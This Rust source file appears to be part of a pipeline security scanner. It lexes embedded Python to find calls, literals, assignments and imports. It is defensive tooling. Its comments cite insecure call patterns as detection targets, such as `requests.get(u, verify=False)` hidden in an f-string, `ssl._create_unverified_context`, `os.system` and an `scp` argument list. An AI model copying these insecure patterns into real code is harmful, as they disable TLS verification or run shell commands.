//! Finds the security-relevant calls in embedded Python source.
//!
//! KFP lightweight components carry the user's Python function as one element of the
//! container `command`, and Argo/Hera `script.source` is often Python too. Rules need to
//! know which calls that code makes (`requests.get`, `subprocess.run`, `os.system`,
//! `ssl._create_unverified_context`, ...), with which literal arguments, and exactly
//! where those are, so a finding can point at the byte of the original file.
//!
//! [`scan`] is a tokenizer plus a bracket-aware call recogniser, not a Python parser:
//!
//! * the tokenizer knows names, numbers, operators, brackets, comments, line
//!   continuations and string literals with every prefix (`r`, `b`, `u`, `f`, `t` and
//!   their combinations) and quote kind, including f-string replacement fields that
//!   contain brackets, format specs or nested strings;
//! * a call is a callee expression (a dotted name, possibly through calls and
//!   subscripts, see [`Call::callee`]) followed by `(`; its arguments are split on
//!   top-level commas and `name=value` makes a keyword argument. Calls nested anywhere,
//!   including inside other calls' arguments, are recorded too;
//! * literal argument values are decoded into [`Value`]s: strings (escapes decoded,
//!   implicit concatenation joined) become [`MappedText`]s whose source is the Python
//!   source given to [`scan`], so the caller can `remap` them through the YAML scalar.
//!
//! It also records every string literal, simple assignments (`url = "http://..."`) and
//! imports, so rules can resolve a variable or an alias cheaply (and heuristically:
//! there is no notion of scope).
//!
//! It only reads text. It never executes, evaluates, compiles or imports anything, and
//! must never start doing so: the sources are untrusted.
//!
//! Robustness: it never panics, runs in time linear in the input (every token is
//! looked at a bounded number of times, bracket partners are precomputed) and its
//! recursion is bounded: literal values are decoded [`MAX_NESTING`] brackets deep (deeper
//! ones become [`Value::Other`]), f-string fields are scanned a few levels deep.
//! Malformed input (unterminated strings or brackets, stray bytes) yields best-effort
//! results rather than errors.
//!
//! Not understood, by design: expressions (`"http://" + host`, `"%s" % x` and
//! `.format()` give [`Value::Other`] or a `.format` call), scopes and control flow
//! (see [`Module::resolve`]), aliases other than imports (`run = subprocess.run`), and
//! Python 2 source (`print "x"`, `exec "code"`).

use std::ops::Range;

use crate::text::MappedText;

/// Stands in for each `{expression}` replacement field of an f-string (or t-string) in
/// the decoded text. It maps to the source bytes of the whole field, braces included.
/// `{{` and `}}` decode to single braces, so a real string cannot produce a field marker
/// unless it contains the `…` character itself.
pub const FSTRING_FIELD: &str = "{…}";

/// Bracket depth up to which literal values are decoded; deeper ones become
/// [`Value::Other`]. Decoding values is the recursion that nesting can drive.
pub const MAX_NESTING: usize = 64;

/// How many segments (`name`, `.name`, `()`, `[]`) of a callee are kept. Walking back
/// further would make a long method chain quadratic.
const MAX_CALLEE_SEGMENTS: usize = 16;

/// How many f-string fields deep calls and strings are looked for
/// (`f"{f'{g()}'}"` is two levels). Each level re-lexes the text of its fields once.
const MAX_FIELD_LEVELS: usize = 4;

/// How many `=`-chained targets (`a = b = c = 1`) one assignment may have.
const MAX_CHAINED_TARGETS: usize = 16;

/// How many variable-to-variable hops [`Module::resolve`] follows.
const MAX_RESOLVE_HOPS: usize = 8;

/// Python's hard keywords: never a callee, a variable or a keyword argument name. A
/// `match` rather than a list: every name token of a statement start, callee or argument
/// is checked, and a list is compared entry by entry.
fn is_hard_keyword(name: &[u8]) -> bool {
    matches!(
        name,
        b"False"
            | b"None"
            | b"True"
            | b"and"
            | b"as"
            | b"assert"
            | b"async"
            | b"await"
            | b"break"
            | b"class"
            | b"continue"
            | b"def"
            | b"del"
            | b"elif"
            | b"else"
            | b"except"
            | b"finally"
            | b"for"
            | b"from"
            | b"global"
            | b"if"
            | b"import"
            | b"in"
            | b"is"
            | b"lambda"
            | b"nonlocal"
            | b"not"
            | b"or"
            | b"pass"
            | b"raise"
            | b"return"
            | b"try"
            | b"while"
            | b"with"
            | b"yield"
    )
}

/// Keywords that open a compound statement: after their header's `:` a simple statement
/// may follow on the same line (`if debug: url = "http://..."`).
const COMPOUND_KEYWORDS: &[&str] =
    &["if", "elif", "else", "while", "for", "try", "except", "finally", "with", "def", "class", "async"];

/// Three- and two-byte operators. Only `=` versus `==`/`<=`/`+=`/... and `*` versus `**`
/// matter to the recogniser, but lexing them whole keeps `a==b` from looking like `a=`.
const OPERATORS_3: &[&[u8]] = &[b"**=", b"//=", b">>=", b"<<=", b"..."];
const OPERATORS_2: &[&[u8]] = &[
    b"==", b"!=", b"<=", b">=", b":=", b"->", b"**", b"//", b"<<", b">>", b"+=", b"-=", b"*=", b"/=", b"%=", b"&=",
    b"|=", b"^=", b"@=",
];

/// One call found in the source.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Call {
    /// The callee as written, whitespace and comments dropped: `requests.get`,
    /// `urllib.request.urlopen`, `session.get`. Calls and subscripts inside the chain are
    /// written `()` and `[]` without their contents: `requests.Session().get`,
    /// `clients[].get`. When the chain starts at something other than a name (a string,
    /// a parenthesised expression, a literal) that receiver is left out, so the callee
    /// starts with `.`: `", ".join`, `(a or b).get` and `{}.get` all give `.join`/`.get`.
    /// Very long chains keep only their last 16 segments (and then also start with `.`,
    /// `()` or `[]`). Calls on a bare parenthesised expression or literal (`(f)(x)`) are
    /// not recorded. Import aliases are not resolved here: see [`Call::qualified`].
    pub callee: String,
    /// From the first byte of the callee text (its first name, or the `.` of a leading
    /// `.name`) to the end of its last name, or of its last `)`/`]` segment.
    pub callee_span: Range<usize>,
    pub args: Vec<Arg>,
    /// The whole call, callee through the closing `)` (or the end of the source if it
    /// is never closed).
    pub span: Range<usize>,
    /// [`Call::qualified`], filled in once the whole module is scanned.
    qualified: String,
}

/// One argument of a [`Call`].
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Arg {
    /// `Some("verify")` for `verify=False`.
    pub keyword: Option<String>,
    /// `*args` / `**kwargs`: the value is then the unpacked expression.
    pub unpack: Unpack,
    pub value: Value,
    /// The whole argument, keyword and `*`/`**` included.
    pub span: Range<usize>,
    /// Just the value expression (empty at the end of `span` if it is missing).
    pub value_span: Range<usize>,
}

/// Whether an argument is unpacked.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Unpack {
    No,
    /// `*iterable`
    Star,
    /// `**mapping`
    DoubleStar,
}

/// What is known about an expression without evaluating it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Value {
    /// A string or bytes literal, or several implicitly concatenated (`"a" "b"`), decoded:
    /// escapes expanded (bytes `\xNN` above 0x7f become U+0080..U+00FF, `\N{...}` is kept
    /// as written), `\r\n` in the source read as `\n`, f-string fields replaced by
    /// [`FSTRING_FIELD`]. Maps into the source given to [`scan`].
    Str(MappedText),
    /// A list or tuple display: `["scp", "a", "host:b"]`, `("a", "b")`. Starred elements
    /// are [`Value::Other`]. Comprehensions are [`Value::Other`].
    List(Vec<Value>),
    Bool(bool),
    None_,
    /// A numeric literal as written, with a leading sign if any: `0o777`, `-1`, `1e3`.
    Number(String),
    /// A name or dotted name (`url`, `self.url`, `os.environ`), for [`Module::resolve`].
    Name(String),
    /// Anything else: an operation, a call, a dict, a lambda, ...
    Other,
}

impl Value {
    /// The decoded string, if this is a string literal.
    pub fn as_str(&self) -> Option<&MappedText> {
        match self {
            Value::Str(text) => Some(text),
            _ => None,
        }
    }
}

/// `target = value` (also `target: annotation = value`, `self.x = value`, each target
/// of `a = b = value`). Augmented assignments (`url += "/x"`) are recorded with
/// [`Value::Other`] so a resolver can see that the variable is not a constant. Tuple
/// unpacking, subscript targets, `for` targets, `with ... as` and `:=` are not recorded.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Assignment {
    /// The target as written, whitespace dropped: `url`, `self.url`.
    pub target: String,
    pub target_span: Range<usize>,
    pub value: Value,
    pub value_span: Range<usize>,
}

/// A name bound by an import: `import subprocess as sp` binds `sp` to `subprocess`,
/// `from urllib.request import urlopen` binds `urlopen` to `urllib.request.urlopen`,
/// `import os.path` binds `os` to `os`. Relative modules keep their dots (`.utils.x`).
/// Star imports are not recorded.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Import {
    pub local: String,
    pub target: String,
    /// The local name (or the imported name when there is no `as`).
    pub span: Range<usize>,
}

/// Everything [`scan`] found, each list in source order.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Module {
    /// Ordered by where their callee starts, so an outer call comes before the calls in
    /// its arguments, and `a().b()` gives `a` before `a().b`. Calls inside f-string
    /// replacement fields are included.
    pub calls: Vec<Call>,
    /// Every string literal outside comments, implicitly concatenated runs joined into one
    /// (as Python sees them), decoded like [`Value::Str`]. Strings inside f-string
    /// replacement fields come right after the literal holding them.
    pub strings: Vec<MappedText>,
    pub assignments: Vec<Assignment>,
    pub imports: Vec<Import>,
}

impl Module {
    /// Follows a [`Value::Name`] to the value of the last assignment to that name that
    /// ends before `at` (a source offset, usually the use's start), through at most a few
    /// variable-to-variable hops. Anything else, or an unresolvable name, is returned
    /// unchanged. Heuristic: scopes, branches and loops are ignored, so this answers
    /// "what was last assigned above", not "what is the value".
    pub fn resolve<'a>(&'a self, value: &'a Value, at: usize) -> &'a Value {
        let mut current = value;
        let mut at = at;
        for _ in 0..MAX_RESOLVE_HOPS {
            let Value::Name(name) = current else { break };
            let found = self
                .assignments
                .iter()
                .rev()
                .find(|assignment| assignment.target == *name && assignment.value_span.end <= at);
            let Some(assignment) = found else { break };
            current = &assignment.value;
            at = assignment.target_span.start;
        }
        current
    }

    /// [`Call::qualified`] of `call`, a call of this module.
    fn qualify(&self, call: &Call) -> String {
        let callee = call.callee.as_str();
        // Bytes, not chars: the three are ASCII, and a char pattern decodes every char.
        let head_len = callee.bytes().position(|c| matches!(c, b'.' | b'(' | b'[')).unwrap_or(callee.len());
        if head_len == 0 {
            return callee.to_string();
        }
        let (head, rest) = callee.split_at(head_len);
        let matching = |import: &&Import| import.local == head;
        let before = self.imports.iter().filter(|import| import.span.start < call.span.start).rfind(matching);
        match before.or_else(|| self.imports.iter().find(matching)) {
            // Concatenated rather than formatted: once per call of every module.
            Some(import) => [import.target.as_str(), rest].concat(),
            None => callee.to_string(),
        }
    }
}

impl Call {
    /// The callee with its first name replaced by what it was imported as: with
    /// `import subprocess as sp`, `sp.run` gives `subprocess.run`; with
    /// `from requests import get`, `get` gives `requests.get`. The last import of that
    /// name before the call wins, else the first one after it (components often import
    /// inside the function body). Callees starting with `.` are returned unchanged.
    pub fn qualified(&self) -> &str {
        &self.qualified
    }

    /// The keyword argument `name`, if given.
    pub fn keyword(&self, name: &str) -> Option<&Arg> {
        self.args.iter().find(|arg| arg.keyword.as_deref() == Some(name))
    }

    /// The `index`th positional argument (from 0). `None` if there are fewer, or if a
    /// `*iterable` before it makes its position unknowable.
    pub fn positional(&self, index: usize) -> Option<&Arg> {
        let mut seen = 0;
        for arg in &self.args {
            if arg.keyword.is_some() || arg.unpack == Unpack::DoubleStar {
                continue;
            }
            if arg.unpack == Unpack::Star {
                return None;
            }
            if seen == index {
                return Some(arg);
            }
            seen += 1;
        }
        None
    }
}

/// Scans Python source. Never panics, whatever the input.
pub fn scan(source: &str) -> Module {
    let mut module = scan_level(source, 0);
    // Once here: every rule that reads calls asks for every call's qualified name.
    let names: Vec<String> = module.calls.iter().map(|call| module.qualify(call)).collect();
    for (call, name) in module.calls.iter_mut().zip(names) {
        call.qualified = name;
    }
    module
}

/// Scans `source`, which is nested `level` f-string fields deep.
fn scan_level(source: &str, level: usize) -> Module {
    let (tokens, brackets) = lex(source);
    let partner = pair_brackets(&tokens, &brackets);
    let scanner = Scanner { src: source, tokens, brackets, partner };
    let mut module = Module::default();
    scanner.collect_calls(&mut module.calls);
    scanner.collect_statements(&mut module.assignments, &mut module.imports);
    // One buffer for the fields of every literal: most have none.
    let mut fields = Vec::new();
    for run in scanner.string_runs() {
        fields.clear();
        module.strings.push(scanner.decode_with_fields(run.start, run.end, &mut fields));
        if level >= MAX_FIELD_LEVELS {
            continue;
        }
        // `f"{requests.get(u, verify=False).text}"` hides a call in a replacement field:
        // scan each field's text on its own and shift what it finds into place. Only
        // calls and strings: a field holds an expression, never a statement (and `{x=}`
        // is not an assignment). The field's strings follow their literal, in order.
        for field in &fields {
            let Some(text) = source.get(field.clone()) else {
                continue;
            };
            let inner = scan_level(text, level + 1);
            let outer = MappedText::verbatim(text, field.start);
            module.calls.extend(inner.calls.into_iter().map(|call| shift_call(call, &outer)));
            module.strings.extend(inner.strings.iter().map(|string| string.remap(&outer)));
        }
    }
    // Stable, so `a().b()`'s `a` stays before `a().b`, which starts at the same byte.
    module.calls.sort_by_key(|call| call.callee_span.start);
    module
}

/// Moves a call found in the text of `outer` (a field scanned on its own) to `outer`'s
/// source.
fn shift_call(call: Call, outer: &MappedText) -> Call {
    let shift = |range: Range<usize>| outer.source_range(range);
    Call {
        callee: call.callee,
        callee_span: shift(call.callee_span),
        span: shift(call.span),
        qualified: call.qualified,
        args: call
            .args
            .into_iter()
            .map(|arg| Arg {
                keyword: arg.keyword,
                unpack: arg.unpack,
                value: shift_value(arg.value, outer, 0),
                span: shift(arg.span),
                value_span: shift(arg.value_span),
            })
            .collect(),
    }
}

fn shift_value(value: Value, outer: &MappedText, depth: usize) -> Value {
    match value {
        Value::Str(text) => Value::Str(text.remap(outer)),
        // Values are at most MAX_NESTING deep, so this recursion is bounded too.
        Value::List(items) if depth <= MAX_NESTING => {
            Value::List(items.into_iter().map(|item| shift_value(item, outer, depth + 1)).collect())
        }
        Value::List(_) => Value::Other,
        other => other,
    }
}

// ---------------------------------------------------------------------------------------
// Tokenizer

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Name,
    Number,
    Str(StrLit),
    Op,
    Open(u8),
    Close(u8),
    /// The end of a logical line. Only emitted outside brackets, as in Python.
    Newline,
}

/// Where a string literal's content lies within its token and how to decode it. Kept
/// to a few bytes, as lengths rather than offsets, so that a token stays small: the
/// lexer writes one per 6 bytes of source and the recogniser reads them many times.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct StrLit {
    /// The prefix letters and opening quotes before the content (at most 5 bytes).
    open_len: u8,
    /// The closing quotes after the content; 0 for an unterminated literal.
    close_len: u8,
    quote: u8,
    triple: bool,
    raw: bool,
    bytes: bool,
    /// f-string or t-string: `{...}` are replacement fields.
    fmt: bool,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Token {
    kind: Kind,
    start: usize,
    end: usize,
}

impl Token {
    /// The source range of a string literal's content (between its quotes).
    fn content(&self, lit: &StrLit) -> Range<usize> {
        let start = self.start + usize::from(lit.open_len);
        start..self.end.saturating_sub(usize::from(lit.close_len)).max(start)
    }
}

/// The byte at `i`, or 0 past the end (0 is never a byte the lexer looks for).
fn byte(b: &[u8], i: usize) -> u8 {
    b.get(i).copied().unwrap_or(0)
}

fn is_newline(c: u8) -> bool {
    c == b'\n' || c == b'\r'
}

/// Non-ASCII bytes count as identifier bytes: Python identifiers may be Unicode, and
/// lexing whole UTF-8 sequences this way keeps every token boundary on a char boundary.
const fn is_ident_start(c: u8) -> bool {
    c.is_ascii_alphabetic() || c == b'_' || c >= 0x80
}

const fn is_ident_byte(c: u8) -> bool {
    is_ident_start(c) || c.is_ascii_digit()
}

/// [`is_ident_start`] or [`is_ident_byte`] as a table: the lexer asks them for every
/// token and every byte of every name, and a load is cheaper than their range tests.
const fn ident_table(continuing: bool) -> [bool; 256] {
    let mut table = [false; 256];
    let mut c = 0;
    while c < table.len() {
        table[c] = if continuing { is_ident_byte(c as u8) } else { is_ident_start(c as u8) };
        c += 1;
    }
    table
}

const IDENT_STARTS: [bool; 256] = ident_table(false);
const IDENT_BYTES: [bool; 256] = ident_table(true);

/// The position of the line break ending the line that contains `i` (or the end).
fn line_end(b: &[u8], i: usize) -> usize {
    b.get(i..).and_then(|rest| memchr::memchr2(b'\n', b'\r', rest)).map_or(b.len(), |offset| i + offset)
}

/// The offset in `rest` (the inside of a string literal quoted with `quote`/`triple`) of
/// the first byte that a loop over its content must look at: the quote, a backslash, a
/// line break if it is single-quoted, a `{` or `}` if `braces`. Every byte before it is
/// plain content, so memchr skips it. `rest.len()` if there is none.
fn next_special(rest: &[u8], quote: u8, triple: bool, braces: bool) -> usize {
    let common: &[u8] = if triple { &[quote, b'\\'] } else { &[quote, b'\\', b'\n'] };
    let rare: &[u8] = match (triple, braces) {
        (true, false) => &[],
        (true, true) => b"{}",
        (false, false) => b"\r",
        (false, true) => b"\r{}",
    };
    first_of(rest, common, rare)
}

/// The offset in `haystack` of its first byte among `common` or `rare` (at most three of
/// each), or `haystack.len()`. memchr looks for at most three bytes at once: the rare ones
/// are looked for only before the first common one, which is where most searches stop.
fn first_of(haystack: &[u8], common: &[u8], rare: &[u8]) -> usize {
    debug_assert!(common.len() <= 3 && rare.len() <= 3, "{common:?} {rare:?}");
    let find = |needles: &[u8], within: &[u8]| match *needles {
        [] => None,
        [a] => memchr::memchr(a, within),
        [a, b] => memchr::memchr2(a, b, within),
        [a, b, c, ..] => memchr::memchr3(a, b, c, within),
    };
    let common_at = find(common, haystack);
    let before = haystack.get(..common_at.unwrap_or(haystack.len())).unwrap_or_default();
    find(rare, before).or(common_at).unwrap_or(haystack.len())
}

/// The tokens of `src`, and the indices of its bracket tokens (which bracket pairing and
/// call recognition visit, and nothing else).
fn lex(src: &str) -> (Vec<Token>, Vec<usize>) {
    let b = src.as_bytes();
    // The corpus's Python averages a token per 6 bytes, dense code one per 4: sized for
    // that, the vector rarely grows (it lives only while its source is scanned).
    let mut tokens: Vec<Token> = Vec::with_capacity(src.len() / 4);
    let mut brackets = Vec::new();
    // Bracket depth decides whether a line break ends a logical line.
    let mut depth = 0usize;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let start = i;
        let kind = match c {
            b' ' | b'\t' | 0x0c => {
                // Indentation comes in runs: skip the run here rather than one byte per
                // turn of the dispatch.
                i += 1;
                while matches!(byte(b, i), b' ' | b'\t' | 0x0c) {
                    i += 1;
                }
                continue;
            }
            b'\n' | b'\r' => {
                i += 1;
                let after_statement = tokens.last().is_some_and(|t| t.kind != Kind::Newline);
                if depth > 0 || !after_statement {
                    continue;
                }
                Kind::Newline
            }
            b'#' => {
                i = line_end(b, i);
                continue;
            }
            b'\\' if is_newline(byte(b, i + 1)) => {
                // A line continuation joins the lines: no token at all.
                i += if byte(b, i + 1) == b'\r' && byte(b, i + 2) == b'\n' { 3 } else { 2 };
                continue;
            }
            b'\'' | b'"' => {
                let (lit, end) = lex_string(b, i, i, Prefix::default());
                i = end;
                Kind::Str(lit)
            }
            b'0'..=b'9' => {
                i = number_end(b, i);
                Kind::Number
            }
            b'.' if byte(b, i + 1).is_ascii_digit() => {
                i = number_end(b, i);
                Kind::Number
            }
            _ if IDENT_STARTS[usize::from(c)] => {
                let rest = b.get(i + 1..).unwrap_or_default();
                let end = i + 1 + rest.iter().position(|&c| !IDENT_BYTES[usize::from(c)]).unwrap_or(rest.len());
                let next = byte(b, end);
                let prefix = if next == b'\'' || next == b'"' { Prefix::parse(&b[i..end]) } else { None };
                match prefix {
                    Some(prefix) => {
                        let (lit, string_end) = lex_string(b, i, end, prefix);
                        i = string_end;
                        Kind::Str(lit)
                    }
                    None => {
                        i = end;
                        Kind::Name
                    }
                }
            }
            b'(' | b'[' | b'{' => {
                depth += 1;
                i += 1;
                brackets.push(tokens.len());
                Kind::Open(c)
            }
            b')' | b']' | b'}' => {
                depth = depth.saturating_sub(1);
                i += 1;
                brackets.push(tokens.len());
                Kind::Close(c)
            }
            _ => {
                let rest = &b[i..];
                // Every longer operator has one of these second bytes, so most operators
                // (`.` before a name, `,`, `:`, `=` before a space) need no table search.
                let longer = matches!(byte(b, i + 1), b'=' | b'>' | b'<' | b'*' | b'/' | b'.');
                i += if !longer {
                    1
                } else if OPERATORS_3.iter().any(|op| rest.starts_with(op)) {
                    3
                } else if OPERATORS_2.iter().any(|op| rest.starts_with(op)) {
                    2
                } else {
                    1
                };
                Kind::Op
            }
        };
        tokens.push(Token { kind, start, end: i.min(b.len()) });
    }
    (tokens, brackets)
}

/// A numeric literal, loosely: digits, letters (hex digits, `j`, `_`), dots, and a sign
/// right after a decimal exponent.
fn number_end(b: &[u8], start: usize) -> usize {
    let hex = byte(b, start) == b'0' && matches!(byte(b, start + 1), b'x' | b'X');
    let mut i = start;
    while i < b.len() {
        let c = b[i];
        if !(c.is_ascii_alphanumeric() || c == b'_' || c == b'.') {
            break;
        }
        if !hex && (c == b'e' || c == b'E') && matches!(byte(b, i + 1), b'+' | b'-') {
            i += 2;
        } else {
            i += 1;
        }
    }
    i.min(b.len())
}

/// The string prefix letters that change how a literal is read.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
struct Prefix {
    raw: bool,
    bytes: bool,
    fmt: bool,
}

impl Prefix {
    /// `Some` if `letters` is a valid string prefix (`r`, `u`, `b`, `f`, `t`, `br`, `rb`,
    /// `fr`, `rf`, `tr`, `rt`, any case).
    fn parse(letters: &[u8]) -> Option<Prefix> {
        if letters.len() > 2 {
            return None;
        }
        let mut prefix = Prefix::default();
        let mut unicode = false;
        for &letter in letters {
            let flag = match letter.to_ascii_lowercase() {
                b'r' => &mut prefix.raw,
                b'b' => &mut prefix.bytes,
                b'f' | b't' => &mut prefix.fmt,
                b'u' => &mut unicode,
                _ => return None,
            };
            if *flag {
                return None;
            }
            *flag = true;
        }
        let combined = letters.len() == 2;
        if (unicode && combined) || (prefix.bytes && prefix.fmt) {
            return None;
        }
        Some(prefix)
    }
}

/// Lexes the literal whose prefix starts at `token_start` and whose opening quote is at
/// `quote_at`. Returns it and the position after it. An unterminated single-quoted
/// literal stops before the line break, an unterminated triple-quoted one at the end of
/// the source.
fn lex_string(b: &[u8], token_start: usize, quote_at: usize, prefix: Prefix) -> (StrLit, usize) {
    let quote = byte(b, quote_at);
    let triple = byte(b, quote_at + 1) == quote && byte(b, quote_at + 2) == quote;
    let content_start = (quote_at + if triple { 3 } else { 1 }).min(b.len());
    let mut i = content_start;
    let (content_end, end) = loop {
        i += next_special(b.get(i..).unwrap_or_default(), quote, triple, prefix.fmt);
        if i >= b.len() {
            break (b.len(), b.len());
        }
        let c = b[i];
        if c == b'\\' {
            i += escape_len(b, i, prefix);
            continue;
        }
        if c == quote {
            if !triple {
                break (i, i + 1);
            }
            if byte(b, i + 1) == quote && byte(b, i + 2) == quote {
                break (i, i + 3);
            }
        } else if is_newline(c) && !triple {
            break (i, i);
        } else if c == b'{' && prefix.fmt {
            i = if byte(b, i + 1) == b'{' { i + 2 } else { skip_field(b, i, quote, triple) };
            continue;
        }
        i += 1;
    };
    // Lengths of at most 5 and 3 bytes: the prefix has at most 2 letters.
    let open_len = u8::try_from(content_start - token_start).unwrap_or(u8::MAX);
    let close_len = u8::try_from(end - content_end).unwrap_or(u8::MAX);
    let lit = StrLit { open_len, close_len, quote, triple, raw: prefix.raw, bytes: prefix.bytes, fmt: prefix.fmt };
    (lit, end)
}

/// How many bytes a backslash at `i` consumes for the purpose of finding the end of the
/// literal. As in Python's tokenizer this also holds for raw strings (`r"\""` does not
/// end at the second quote), except that a backslash never hides an f-string brace.
fn escape_len(b: &[u8], i: usize, prefix: Prefix) -> usize {
    match byte(b, i + 1) {
        b'\r' if byte(b, i + 2) == b'\n' => 3,
        b'{' | b'}' if prefix.fmt => 1,
        // `\N{DASH}` is an escape, not a replacement field.
        b'N' if prefix.fmt && !prefix.raw && byte(b, i + 2) == b'{' => named_escape_end(b, i) - i,
        _ => 2,
    }
}

/// The end of the `\N{NAME}` escape starting at `i` (after its `}`), or where the name
/// stops being plausible.
fn named_escape_end(b: &[u8], i: usize) -> usize {
    let mut j = i + 3;
    while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b' ' || b[j] == b'-') {
        j += 1;
    }
    if byte(b, j) == b'}' { j + 1 } else { j.min(b.len()) }
}

/// One level of replacement field while skipping an f-string field.
struct FieldFrame {
    /// Brackets open inside the expression.
    depth: usize,
    /// Past the top-level `:`: reading the format spec.
    in_spec: bool,
}

/// Skips the replacement field opened by the `{` at `open` inside a literal quoted with
/// `quote`/`triple`. Returns the position after its closing `}`, or where a malformed
/// field gives up (the outer literal's quote in a spec, a line break in a single-quoted
/// literal, the end). Expressions may contain brackets and nested strings (any quotes,
/// as Python 3.12 allows), specs may contain nested fields. Iterative, no recursion.
fn skip_field(b: &[u8], open: usize, quote: u8, triple: bool) -> usize {
    let mut frames = vec![FieldFrame { depth: 0, in_spec: false }];
    let mut i = open + 1;
    while i < b.len() {
        let c = b[i];
        let Some(frame) = frames.last_mut() else {
            return i;
        };
        if is_newline(c) && !triple && frame.depth == 0 {
            return i;
        }
        if frame.in_spec {
            let closes_outer = c == quote && (!triple || (byte(b, i + 1) == quote && byte(b, i + 2) == quote));
            match c {
                _ if closes_outer => return i,
                b'{' => frames.push(FieldFrame { depth: 0, in_spec: false }),
                b'}' => {
                    frames.pop();
                    if frames.is_empty() {
                        return i + 1;
                    }
                }
                b'\\' => i += 1,
                _ => {}
            }
        } else {
            match c {
                b'\'' | b'"' => {
                    i = skip_plain_string(b, i);
                    continue;
                }
                b'#' => {
                    // Python 3.12 allows comments in multi-line fields.
                    i = line_end(b, i);
                    continue;
                }
                b'(' | b'[' | b'{' => frame.depth += 1,
                b')' | b']' => frame.depth = frame.depth.saturating_sub(1),
                b'}' if frame.depth > 0 => frame.depth -= 1,
                b'}' => {
                    frames.pop();
                    if frames.is_empty() {
                        return i + 1;
                    }
                }
                b':' if frame.depth == 0 => frame.in_spec = true,
                _ => {}
            }
        }
        i += 1;
    }
    b.len()
}

/// Skips a string nested in an f-string field, without decoding it: its own braces are
/// text as far as the enclosing field is concerned.
fn skip_plain_string(b: &[u8], quote_at: usize) -> usize {
    let quote = byte(b, quote_at);
    let triple = byte(b, quote_at + 1) == quote && byte(b, quote_at + 2) == quote;
    let mut i = quote_at + if triple { 3 } else { 1 };
    while i < b.len() {
        i += next_special(b.get(i..).unwrap_or_default(), quote, triple, false);
        let Some(&c) = b.get(i) else { break };
        if c == b'\\' {
            i += 2;
            continue;
        }
        if c == quote {
            if !triple {
                return i + 1;
            }
            if byte(b, i + 1) == quote && byte(b, i + 2) == quote {
                return i + 3;
            }
        } else if is_newline(c) && !triple {
            return i;
        }
        i += 1;
    }
    b.len()
}

// ---------------------------------------------------------------------------------------
// String decoding

/// Appends the decoded content of `lit` to `out`, and the source range of the text
/// inside each replacement field's braces to `fields`.
fn decode_into(src: &str, lit: &StrLit, content: Range<usize>, out: &mut MappedText, fields: &mut Vec<Range<usize>>) {
    let b = src.as_bytes();
    let end = content.end.min(b.len());
    // Start of the run of bytes copied verbatim that has not been pushed yet. Runs are
    // only ever cut at ASCII bytes, so slicing `src` stays on char boundaries.
    let mut run = content.start.min(end);
    let mut i = run;
    while i < end {
        i += next_to_decode(b.get(i..end).unwrap_or_default(), lit);
        if i >= end {
            break;
        }
        let c = b[i];
        let next = if i + 1 < end { b[i + 1] } else { 0 };
        match c {
            b'\\' if !lit.raw => {
                push_run(src, out, run, i);
                i = decode_escape(src, lit, i, end, out);
                run = i;
            }
            b'\r' => {
                // Python reads source with universal newlines.
                push_run(src, out, run, i);
                let len = if next == b'\n' { 2 } else { 1 };
                out.push_decoded("\n", i..i + len);
                i += len;
                run = i;
            }
            b'{' if lit.fmt => {
                push_run(src, out, run, i);
                if next == b'{' {
                    out.push_char('{', i..i + 2);
                    i += 2;
                } else {
                    let field_end = skip_field(b, i, lit.quote, lit.triple).clamp(i + 1, end);
                    out.push_decoded(FSTRING_FIELD, i..field_end);
                    let closed = byte(b, field_end - 1) == b'}';
                    let inner_end = if closed { field_end - 1 } else { field_end };
                    fields.push(i + 1..inner_end.max(i + 1));
                    i = field_end;
                }
                run = i;
            }
            b'}' if lit.fmt && next == b'}' => {
                push_run(src, out, run, i);
                out.push_char('}', i..i + 2);
                i += 2;
                run = i;
            }
            _ => i += 1,
        }
    }
    push_run(src, out, run, end);
}

/// The offset in `content` (the rest of a literal's content) of the first byte that
/// [`decode_into`] must look at: a backslash unless the literal is raw, a `\r`, a brace
/// in an f-string. `content.len()` if there is none.
fn next_to_decode(content: &[u8], lit: &StrLit) -> usize {
    // Backslashes unless raw, braces in an f-string; `\r` is rare: looked for last.
    let common: &[u8] = match (lit.raw, lit.fmt) {
        (false, false) => b"\\",
        (false, true) => b"\\{}",
        (true, false) => b"",
        (true, true) => b"{}",
    };
    first_of(content, common, b"\r")
}

fn push_run(src: &str, out: &mut MappedText, start: usize, end: usize) {
    if let Some(text) = src.get(start..end) {
        out.push_verbatim(text, start);
    }
}

/// Decodes the escape sequence whose backslash is at `i`; returns the position after it.
fn decode_escape(src: &str, lit: &StrLit, i: usize, end: usize, out: &mut MappedText) -> usize {
    let b = src.as_bytes();
    let j = i + 1;
    if j >= end {
        out.push_verbatim("\\", i);
        return end;
    }
    let simple = match b[j] {
        b'\\' => Some('\\'),
        b'\'' => Some('\''),
        b'"' => Some('"'),
        b'a' => Some('\x07'),
        b'b' => Some('\x08'),
        b'f' => Some('\x0c'),
        b'n' => Some('\n'),
        b'r' => Some('\r'),
        b't' => Some('\t'),
        b'v' => Some('\x0b'),
        _ => None,
    };
    if let Some(decoded) = simple {
        out.push_char(decoded, i..j + 1);
        return j + 1;
    }
    match b[j] {
        // Backslash-newline inside a literal joins the lines.
        b'\n' => j + 1,
        b'\r' => {
            if j + 1 < end && b[j + 1] == b'\n' {
                j + 2
            } else {
                j + 1
            }
        }
        b'0'..=b'7' => {
            let mut value = 0u32;
            let mut k = j;
            while k < end && k < j + 3 && (b'0'..=b'7').contains(&b[k]) {
                value = value * 8 + u32::from(b[k] - b'0');
                k += 1;
            }
            out.push_char(code_point(value, lit.bytes), i..k);
            k
        }
        b'x' => decode_hex(src, lit, i, end, 2, out),
        b'u' if !lit.bytes => decode_hex(src, lit, i, end, 4, out),
        b'U' if !lit.bytes => decode_hex(src, lit, i, end, 8, out),
